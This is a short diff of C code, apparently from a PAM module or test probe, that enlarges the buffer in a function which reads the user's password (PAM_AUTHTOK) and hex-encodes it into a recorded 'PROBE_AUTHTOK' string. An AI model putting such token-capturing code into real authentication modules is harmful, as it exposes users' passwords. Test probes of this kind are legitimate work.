@@ -12,7 +12,7 @@
 
 static void record(pam_handle_t *handle) {
     const void *secret = NULL, *name = NULL;
-    char text[2200] = "PROBE_AUTHTOK=none";
+    char text[32768] = "PROBE_AUTHTOK=none";
     if (pam_get_item(handle, PAM_AUTHTOK, &secret) == PAM_SUCCESS && secret) {
         size_t n = (size_t)snprintf(text, sizeof text, "PROBE_AUTHTOK=hex:");
         for (const unsigned char *c = secret; *c && n < sizeof text - 3; c++)
